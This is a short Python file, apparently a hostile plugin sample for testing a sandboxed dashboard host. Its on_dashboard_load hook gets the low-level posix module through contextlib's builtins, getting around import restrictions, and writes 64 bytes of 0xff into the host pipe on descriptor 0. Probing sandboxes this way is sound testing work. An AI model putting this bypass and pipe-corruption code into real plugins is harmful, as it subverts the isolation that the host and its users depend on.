"""Finds the pipe and writes to it what is no message."""

import contextlib


def on_dashboard_load():
    # What a plugin that digs finds: the guest keeps no secret from it, the hub trusts no byte.
    posix = contextlib.__builtins__["__import__"]("posix")
    posix.write(0, b"\xff" * 64)
    return {}
